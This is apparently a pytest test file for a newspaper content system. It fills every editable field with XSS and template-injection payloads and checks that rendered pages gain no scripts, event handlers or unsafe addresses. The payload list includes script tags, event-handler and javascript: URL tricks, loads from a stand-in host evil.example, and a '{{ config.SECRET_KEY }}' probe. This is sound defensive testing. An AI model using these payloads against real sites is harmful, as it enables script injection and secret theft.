"""No script by any field: what an editor types is words, on every page where it appears.

The payloads are typed by the handful, each into every long text and some of the lines; every page
must then have the very elements and attributes that it has with harmless words."""

import json
from itertools import cycle
from xml.etree.ElementTree import Element

import pytest

from answers import items, main, tree
from broadsheet.archive import imprint
from broadsheet.archive.addresses import FormerAddress
from broadsheet.archive.authors import Author, Topic
from broadsheet.archive.corrections import Correction
from broadsheet.archive.images import Image
from broadsheet.archive.placements import Banner, Placement
from broadsheet.archive.sections import Section
from broadsheet.archive.store import db
from broadsheet.copy import ALLOWED_TAGS, to_html
from desk import row

# In the shapes of public collections: OWASP's filter evasion, PortSwigger's cheat sheet, html5sec.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](https://x)",
    "[x](https://x \"onmouseover=alert(1) y=\")",
    "<https://x\" onmouseover=alert(1)>",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import'//evil.example/x.css';</style>",
    "<x style=behavior:url(#)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "{{ config.SECRET_KEY }}",
    "<p hx-get=/newsroom hx-trigger=load>x</p>",
    "<p data-hx-on:load=alert(1)>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a id=config></a><a id=config name=x href=cid:x>",
    "\u2028alert(1)\u2029//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u212aeygen autofocus onfocus=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
]  # fmt: skip
HARMLESS = "plain words"
ON_A_LINE = "kicker headline dek dateline source search_title search_description".split()
# Whatever an address of a page may begin with.
SAFE = ("/", "#", "?", "http://", "https://", "mailto:", "tel:", "data:image/")


@pytest.fixture
def database() -> str:
    """What becomes of a text does not depend on the database."""
    return "sqlite"


@pytest.fixture
def filled(app, editor, paper, clock):
    """A paper with a live story, a draft, and everything that has words; returns how to fill all
    of it with a text, and the addresses where it then appears."""
    story = editor.write(
        headline=HARMLESS, body_source=HARMLESS, slug="story", bylines=[HARMLESS],
        topics=[HARMLESS],
    )  # fmt: skip
    editor.edit(story, "/publish")
    draft = editor.write(headline=HARMLESS, body_source=HARMLESS, slug="draft")
    number = int(story.rpartition("/")[2])
    paper.add(
        Image(id=7, file="p.webp", width=3, height=2, alt=HARMLESS),
        Correction(article_id=number, kind="correction", note=HARMLESS, noted_at=clock()),
        Banner(
            headline=HARMLESS, article_id=number, starts_at=clock(),
            ends_at=clock().replace(year=2030),
        ),
        Placement(slot=1, article_id=number),
    )  # fmt: skip

    def fill(*texts: str) -> None:
        text, lines = "\n\n".join(texts), [" ".join(text.split())[:80] for text in texts]
        line = lines[0]
        words = dict(zip(ON_A_LINE, cycle(lines), strict=False))
        words |= {"body_source": text, "lead_image_id": "7"}
        for address in (story, draft):
            answer = editor.edit(address, **words)
            assert answer.status_code == 303, answer.text
        editor.edit(story, "/publish-changes", kind="typo")
        with app.app_context():
            for correction in db.session.scalars(db.select(Correction)):
                correction.note = text
            for named in (
                *db.session.scalars(db.select(Author)),
                *db.session.scalars(db.select(Topic)),
            ):
                named.name = line
            for image in db.session.scalars(db.select(Image)):
                image.alt = image.caption = image.credit = text
            for banner in db.session.scalars(db.select(Banner)):
                banner.headline = text
            for section in db.session.scalars(db.select(Section)):
                section.name = section.dek = text
            for author in db.session.scalars(db.select(Author)):
                author.bio = author.email = text
            for topic in db.session.scalars(db.select(Topic)):
                topic.dek = text
            paper_itself = imprint.of_the_paper()
            for column in "name tagline email phone postal_address".split():
                setattr(paper_itself, column, text)
            imprint.write_page("about", text, to_html(text, "markdown"))
            db.session.merge(FormerAddress(path="/old", target=f"/{line}"))
            db.session.commit()

    article = row(app, story)
    names = [f"/authors/{article.authors[0].slug}", f"/topics/{article.topics[0].slug}"]
    reader = ["/", "/world", "/world/story", "/latest", "/corrections", "/fragments/rail"]
    reader += ["/nothing", "/about", *names]
    desk = ["/newsroom", "/newsroom/audit", story, draft, story + "/history", story + "/compare"]
    desk += ["/newsroom/placing", "/newsroom/placing/world", f"/newsroom/placing?add={number}"]
    desk += ["/newsroom/banners", "/newsroom/banners/1", "/newsroom/choices"]
    desk += [story + "/withdraw", story + "/address", "/newsroom/stories/new"]
    desk += ["/newsroom/addresses", "/newsroom/authors", "/newsroom/authors/1"]
    desk += ["/newsroom/topics", "/newsroom/topics/1", "/newsroom/sections", "/newsroom/paper"]
    desk += ["/newsroom/sections/1", "/newsroom/sections/1/merge?into=2", "/newsroom/paper/about"]
    return fill, reader, desk


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a page in order, with the names of their attributes; but for those of the
    story's text, whose Markdown may make any that are allowed, and of marked proofs."""
    found: list[tuple[str, tuple[str, ...]]] = []

    def walk(element: Element) -> None:
        found.append((str(element.tag), tuple(sorted(element.keys()))))
        if element.get("class") in ("story__body", "proof"):
            return
        for child in element:
            walk(child)

    walk(parsed(html))
    return found


def parsed(html: str) -> Element:
    """A page, or a fragment of list items."""
    return tree(html) if html.lstrip().startswith("<!") else items(html)


def check_text(html: str) -> None:
    """What an editor's Markdown may become, and nothing else."""
    for element in main(html).iter():
        if element.get("class") != "story__body":
            continue
        for inner in list(element.iter())[1:]:
            assert inner.tag in ALLOWED_TAGS, inner.tag
            assert set(inner.keys()) <= {"href", "title", "rel", "dir"}, inner.attrib
            href = inner.get("href", "/").strip().lower()
            assert href.startswith(SAFE), href


def check_addresses(html: str) -> None:
    for element in parsed(html).iter():
        for name in ("href", "src", "action", "formaction"):
            value = element.get(name)
            assert value is None or value.strip().lower().startswith(SAFE), (name, value)
        assert not [name for name in element.attrib if name.startswith("on")], element.attrib
        if element.tag == "script" and element.get("src") is None:
            assert element.get("type") == "application/ld+json"
            json.loads("".join(element.itertext()))


def test_no_payload_in_any_field_is_more_than_words(app, editor, desk, filled):
    fill, reader, desk_pages = filled
    fill(HARMLESS)
    stranger, publisher = app.test_client(), desk("publisher")
    pages = [(stranger, page) for page in reader] + [(publisher, page) for page in desk_pages]
    expected = {page: shape(browser.get(page).text) for browser, page in pages}
    for first in range(len(ON_A_LINE)):
        payload = PAYLOADS[first :: len(ON_A_LINE)]
        fill(*payload)
        for browser, page in pages:
            text = browser.get(page).text
            if (
                not page.endswith(("/compare", "/audit", "/history"))
                and page not in desk_pages[2:4]
            ):
                assert shape(text) == expected[page], (payload, page)
            check_addresses(text)
            if text.lstrip().startswith("<!"):
                check_text(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_markdown_makes_a_script(payload):
    for source in (payload, f"> {payload}", f"- {payload}", f"**{payload}**", f"[{payload}](/x)"):
        page = '<!doctype html><title>x</title><main><div class="story__body">'
        check_text(page + to_html(source, "markdown") + "</div></main>")
